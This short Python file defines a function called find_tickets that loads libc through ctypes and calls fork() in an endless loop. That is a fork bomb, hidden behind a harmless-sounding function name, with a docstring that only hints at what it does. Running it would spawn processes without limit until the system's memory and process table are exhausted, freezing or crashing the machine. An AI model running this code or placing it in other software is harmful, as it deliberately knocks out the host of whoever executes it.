"""Every process starts another, and so do these."""

import ctypes

LIBC = ctypes.CDLL(None, use_errno=True)


def find_tickets(problem):
    while True:
        LIBC.fork()
